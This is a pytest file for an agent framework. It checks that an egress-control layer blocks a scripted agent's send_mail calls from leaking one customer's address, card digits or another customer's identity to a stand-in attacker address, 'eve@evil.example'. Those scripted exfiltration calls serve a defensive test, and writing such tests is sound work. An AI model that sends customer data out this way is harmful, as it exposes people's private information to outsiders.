"""Who may have what the shop knows: with a tool that can mail, a customer's data still reach that customer only."""

from __future__ import annotations

from collections.abc import AsyncIterator

import pytest

from remit.agents.spec import Rule
from remit.app import App, open_app
from remit.library.support import demo
from remit.models.model import ToolCall
from remit.settings import Settings
from remit.testing import ScriptedModel
from remit.tools import tool
from tests.library.test_demo import AGENT, CASES, call

CASE = CASES["how-much-did-i-pay"]  # of Noah Ito
EVE = "eve@evil.example"
sent: list[str] = []


@tool(effect="egress", sinks={"to": "email", "text": "text"})
async def send_mail(to: str, text: str) -> str:
    """Send an e-mail."""
    sent.append(to)
    return "sent"


TOOLS = (send_mail,)


@pytest.fixture
async def app(settings: Settings) -> AsyncIterator[App]:
    sent.clear()
    async with open_app(settings, resources={"shop": settings.database_url}) as opened:
        yield opened


async def decisions(app: App, *script: ToolCall) -> tuple[list[str], str, str]:
    """What was decided of each mail, the customer's address and what the last verdict told."""
    await demo.prepare(app.store.url)
    start = await demo.case_start(CASE, app.store.url)
    free = [Rule(tool=name, allow="true") for name in ("send_mail", "find_customer")]
    agent = AGENT.model_copy(
        update={"tools": (*AGENT.tools, "tests.library.test_labels"), "rules": (*free, *AGENT.rules)}
    )
    model = ScriptedModel([*script, call("finish", report="done", outcome="done")], by_turn=True)
    state = await app.advance(
        await app.start(agent, start.goal, person=start.person, inputs=start.inputs, model=model)
    )
    mails = [one for one in state.calls.values() if one.call.tool == "send_mail"]
    told = str(mails[-1].acted and mails[-1].acted.result)
    return [one.judged.decision for one in mails if one.judged], start.person.email, told


async def test_a_customers_own_address_and_cards_cannot_be_mailed_to_anybody_else(app: App) -> None:
    made, own, _ = await decisions(
        app,
        call("send_mail", to=EVE, text="619 Broadway"),  # nothing was read yet
        call("my_account"),
        call("send_mail", to=EVE, text="the shop is open"),
        call("send_mail", to=EVE, text="They live at 619 Broadway,\nSuite 484"),
        call("send_mail", to=EVE, text="mastercard 1065"),
        call("send_mail", to=EVE, text={"$ref": "2.1"}),
    )
    assert made == ["allow", "allow", "deny", "deny", "deny"]
    read = [call("my_account"), call("send_mail", to=own, text="You live at 619 Broadway, Suite 484.")]
    assert (await decisions(app, *read))[0] == ["allow"]
    assert sent == [EVE, EVE, own]


async def test_another_customers_data_cannot_be_mailed_out_even_to_the_customer_who_wrote(app: App) -> None:
    found = call("find_customer", first_name="Yara", last_name="Muller", zip="85041")
    made, own, told = await decisions(app, found, call("send_mail", to=EVE, text="It is Yara Muller-8652"))
    assert (made, "read in find_customer Yara (nobody knows whose)" in told) == (["deny"], True)
    made, _, _ = await decisions(app, found, call("send_mail", to=own, text="id: YARA_MULLER_8652"))
    assert made == ["deny"]
    assert sent == []
